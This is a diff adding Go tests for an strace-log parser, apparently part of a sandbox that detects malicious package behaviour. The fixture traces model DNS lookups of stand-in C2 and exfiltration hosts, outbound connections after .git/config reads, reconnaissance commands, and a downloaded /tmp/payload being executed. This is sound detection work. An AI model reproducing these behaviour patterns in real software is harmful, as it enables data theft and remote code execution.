+		"I1203 05:29:21.585004     173 strace.go:625] [   4] node X connect(0x12 socket:[1], 0x7faa3cc00dcc {Family: AF_INET, Addr: 8.8.8.8, Port: 53}, 0x10) = 0x0 (94.161µs)\n" +
+		"I1203 05:29:21.585005     173 strace.go:625] [   4] node X newfstatat(AT_FDCWD /app, 0x7f015d7865d0 /root/.ssh, 0x7ffd1f0c2a70, 0x0) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.585006     173 strace.go:625] [   4] node E exit_group(0x0)\n"
+
+	res, err := strace.ParseMinimal(context.Background(), strings.NewReader(input), nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`ParseMinimal(r) = %v, %v, want _, nil`, res, err)
+	}
+
+	wantFiles := []strace.FileInfo{{Path: "/etc/passwd", Write: true}}
+	if got := res.Files(); !reflect.DeepEqual(got, wantFiles) {
+		t.Errorf(`Files() = %+v, want %+v`, got, wantFiles)
+	}
+	wantSockets := []strace.SocketInfo{{Family: analysisrun.FamilyInet, Address: "8.8.8.8", Port: 53}}
+	if got := res.Sockets(); !reflect.DeepEqual(got, wantSockets) {
+		t.Errorf(`Sockets() = %+v, want %+v`, got, wantSockets)
+	}
+	wantCommands := []strace.CommandInfo{{Command: []string{"sh", "-c", "node install.js"}, Env: []string{"HOME=/root"}}}
+	if got := res.Commands(); !reflect.DeepEqual(got, wantCommands) {
+		t.Errorf(`Commands() = %+v, want %+v`, got, wantCommands)
+	}
+	// the other data is not collected
+	if got := res.Sleeps(); len(got) != 0 {
+		t.Errorf(`Sleeps() = %v, want empty`, got)
+	}
+	if got := res.SyscallCount(); got != 0 {
+		t.Errorf(`SyscallCount() = %d, want 0`, got)
+	}
+}
+
+// dnsQuery returns a DNS query for the A record of each name, quoted as in the
+// strace log.
+func dnsQuery(names ...string) string {
+	query := []byte{0x12, 0x34, 0x01, 0x00, 0x00, byte(len(names)), 0x00, 0x00, 0x00, 0x00, 0x00, 0x00}
+	for _, name := range names {
+		for _, label := range strings.Split(name, ".") {
+			query = append(query, byte(len(label)))
+			query = append(query, label...)
+		}
+		query = append(query, 0x00, 0x00, 0x01, 0x00, 0x01)
+	}
+	return strconv.Quote(string(query))
+}
+
+func TestDNSQueries(t *testing.T) {
+	input := "I1203 05:29:21.100000     173 strace.go:625] [   2:   2] node X connect(0x12 socket:[1], 0x7faa3cc00dcc {Family: AF_INET, Addr: 10.0.0.1, Port: 53}, 0x10) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.200000     173 strace.go:625] [   2:   2] node E sendto(0x12 socket:[1], 0x7f34c4140000 " + dnsQuery("evil.example.com") + ", 0x22, 0x0, 0x0, 0x0)\n" +
+		"I1203 05:29:21.300000     173 strace.go:625] [   2:   2] node E write(0x12 socket:[1], 0x7f34c4140000 " + dnsQuery("c2.example.net", "evil.example.com") + ", 0x3e)\n" +
+		// a query sent to a DNS server without connecting to it
+		"I1203 05:29:21.400000     173 strace.go:625] [   3:   3] python3 E sendto(0x4 socket:[2], 0x7f34c4140000 " + dnsQuery("exfil.example.org") + ", 0x23, 0x0, 0x7f34c41402d0 {Family: AF_INET, Addr: 8.8.8.8, Port: 53}, 0x10)\n" +
+		// data sent on other sockets, and data that is not a query
+		"I1203 05:29:21.500000     173 strace.go:625] [   2:   2] node X connect(0x13 socket:[3], 0x7faa3cc00dcc {Family: AF_INET, Addr: 1.2.3.4, Port: 443}, 0x10) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.600000     173 strace.go:625] [   2:   2] node E write(0x13 socket:[3], 0x7f34c4140000 " + dnsQuery("not.dns.example") + ", 0x21)\n" +
+		"I1203 05:29:21.700000     173 strace.go:625] [   2:   2] node E write(0x12 socket:[1], 0x7f34c4140000 \"GET / HTTP/1.1\\r\\n\", 0x10)\n"
+	want := []strace.DNSQueryInfo{
+		{Family: analysisrun.FamilyInet, Address: "10.0.0.1", Port: 53, Hostnames: []string{"evil.example.com", "c2.example.net"}},
+		{Family: analysisrun.FamilyInet, Address: "8.8.8.8", Port: 53, Hostnames: []string{"exfil.example.org"}},
+	}
+
+	res, err := strace.Parse(context.Background(), strings.NewReader(input), nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	if got := res.DNSQueries(); !reflect.DeepEqual(got, want) {
+		t.Errorf(`DNSQueries() = %+v, want %+v`, got, want)
+	}
+}
+
+func TestConnectionsAfterCommands(t *testing.T) {
+	input := "I1203 05:29:21.100000     173 strace.go:625] [   2:   2] node X connect(0x12 socket:[1], 0x7faa3cc00dcc {Family: AF_INET, Addr: 104.16.19.35, Port: 443}, 0x10) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.200000     173 strace.go:625] [   3:   3] whoami X execve(0x7f1c3a0a2620 /usr/bin/whoami, 0x7f1c39e12930 [\"whoami\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.300000     173 strace.go:625] [   2:   2] node X bind(0x13 socket:[2], 0x7faa3cc00dcc {Family: AF_INET, Addr: 0.0.0.0, Port: 8080}, 0x10) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.400000     173 strace.go:625] [   2:   2] node X connect(0x14 socket:[3], 0x7faa3cc00dcc {Family: AF_INET, Addr: 1.2.3.4, Port: 443}, 0x10) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.500000     173 strace.go:625] [   4:   4] hostname X execve(0x7f1c3a0a2620 /bin/hostname, 0x7f1c39e12930 [\"hostname\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n" +
+		// a later connection to a socket connected to before the command
+		"I1203 05:29:21.600000     173 strace.go:625] [   2:   2] node X connect(0x15 socket:[4], 0x7faa3cc00dcc {Family: AF_INET, Addr: 104.16.19.35, Port: 443}, 0x10) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.700000     173 strace.go:625] [   5:   5] true X execve(0x7f1c3a0a2620 /bin/true, 0x7f1c39e12930 [\"true\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n"
+	env := []string{"HOME=/root"}
+	registry := strace.SocketInfo{Family: analysisrun.FamilyInet, Address: "104.16.19.35", Port: 443}
+	remote := strace.SocketInfo{Family: analysisrun.FamilyInet, Address: "1.2.3.4", Port: 443}
+	want := []strace.CommandConnectionsInfo{
+		{Command: []string{"hostname"}, Env: env, Sockets: []strace.SocketInfo{registry}},
+		{Command: []string{"whoami"}, Env: env, Sockets: []strace.SocketInfo{remote, registry}},
+	}
+
+	r := strings.NewReader(input)
+	res, err := strace.Parse(context.Background(), r, nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	if got := res.ConnectionsAfterCommands(); !reflect.DeepEqual(got, want) {
+		t.Errorf(`ConnectionsAfterCommands() = %+v, want %+v`, got, want)
+	}
+}
+
+func TestConnectionsAfterReads(t *testing.T) {
+	input := "I1203 05:29:21.100000     173 strace.go:625] [   2:   2] node X connect(0x12 socket:[1], 0x7faa3cc00dcc {Family: AF_INET, Addr: 104.16.19.35, Port: 443}, 0x10) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.200000     173 strace.go:625] [   2:   2] node X openat(AT_FDCWD /app, 0x7f015d7865d0 /src/project/.git/config, O_RDONLY|O_CLOEXEC, 0o0) = 0x6 (10µs)\n" +
+		"I1203 05:29:21.300000     173 strace.go:625] [   2:   2] node X connect(0x14 socket:[3], 0x7faa3cc00dcc {Family: AF_INET, Addr: 1.2.3.4, Port: 443}, 0x10) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.400000     173 strace.go:625] [   2:   2] node X openat(AT_FDCWD /app, 0x7f015d7865d0 /src/project/.git/HEAD, O_RDONLY|O_CLOEXEC, 0o0) = 0x6 (10µs)\n" +
+		// written, not read
+		"I1203 05:29:21.500000     173 strace.go:625] [   2:   2] node X openat(AT_FDCWD /app, 0x7f015d7865d0 /tmp/out, O_WRONLY|O_CREAT|O_TRUNC, 0o644) = 0x6 (10µs)\n" +
+		"I1203 05:29:21.600000     173 strace.go:625] [   2:   2] node X connect(0x15 socket:[4], 0x7faa3cc00dcc {Family: AF_INET, Addr: 5.6.7.8, Port: 80}, 0x10) = 0x0 (10µs)\n"
+	remote := strace.SocketInfo{Family: analysisrun.FamilyInet, Address: "1.2.3.4", Port: 443}
+	other := strace.SocketInfo{Family: analysisrun.FamilyInet, Address: "5.6.7.8", Port: 80}
+
+	r := strings.NewReader(input)
+	res, err := strace.Parse(context.Background(), r, nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+
+	tests := []struct {
+		name  string
+		paths []string
+		want  []strace.SocketInfo
+	}{
+		{
+			name:  "files read",
+			paths: []string{"/src/project/.git/HEAD", "/src/project/.git/config"},
+			want:  []strace.SocketInfo{remote, other},
+		},
+		{
+			name:  "later file",
+			paths: []string{"/src/project/.git/HEAD"},
+			want:  []strace.SocketInfo{other},
+		},
+		{
+			name:  "not read",
+			paths: []string{"/tmp/out", "/missing"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := res.ConnectionsAfterReads(tt.paths); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf(`ConnectionsAfterReads(%v) = %+v, want %+v`, tt.paths, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestWrittenFileRuns(t *testing.T) {
+	input := "I1203 05:29:21.100000     173 strace.go:625] [   2:   2] curl X openat(AT_FDCWD /app, 0x7f015d7865d0 /tmp/payload, O_WRONLY|O_CREAT|O_TRUNC, 0o755) = 0x6 (10µs)\n" +
+		"I1203 05:29:21.200000     173 strace.go:625] [   3:   3] payload X execve(0x7f1c3a0a2620 /tmp/payload, 0x7f1c39e12930 [\"/tmp/payload\", \"-d\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n" +
+		// run before it is written
+		"I1203 05:29:21.300000     173 strace.go:625] [   4:   4] x X execve(0x7f1c3a0a2620 /tmp/x, 0x7f1c39e12930 [\"/tmp/x\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n" +
+		"I1203 05:29:21.400000     173 strace.go:625] [   2:   2] curl X openat(AT_FDCWD /app, 0x7f015d7865d0 /tmp/x, O_WRONLY|O_CREAT|O_TRUNC, 0o755) = 0x6 (10µs)\n" +
+		// a script run by an interpreter, with a relative path
+		"I1203 05:29:21.500000     173 strace.go:625] [   2:   2] node X openat(AT_FDCWD /app, 0x7f015d7865d0 /var/tmp/.cache/stage.js, O_WRONLY|O_CREAT|O_TRUNC, 0o644) = 0x6 (10µs)\n" +
+		"I1203 05:29:21.600000     173 strace.go:625] [   5:   5] node X execve(0x7f1c3a0a2620 /usr/local/bin/node, 0x7f1c39e12930 [\"node\", \".cache/stage.js\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n" +
+		// never written
+		"I1203 05:29:21.700000     173 strace.go:625] [   6:   6] sh X execve(0x7f1c3a0a2620 /bin/sh, 0x7f1c39e12930 [\"sh\", \"-c\", \"true\"], 0x55bbefc2d070 [\"HOME=/root\"]) = 0x0 (10µs)\n"
+	want := []strace.WrittenFileRunInfo{
+		{Path: "/tmp/payload", Command: []string{"/tmp/payload", "-d"}},
+		{Path: "/var/tmp/.cache/stage.js", Command: []string{"node", ".cache/stage.js"}},
+	}
+
+	r := strings.NewReader(input)
+	res, err := strace.Parse(context.Background(), r, nopLogger)
+	if err != nil || res == nil {
+		t.Fatalf(`Parse(r) = %v, %v, want _, nil`, res, err)
+	}
+	if got := res.WrittenFileRuns(); !reflect.DeepEqual(got, want) {
+		t.Errorf(`WrittenFileRuns() = %+v, want %+v`, got, want)
+	}
+}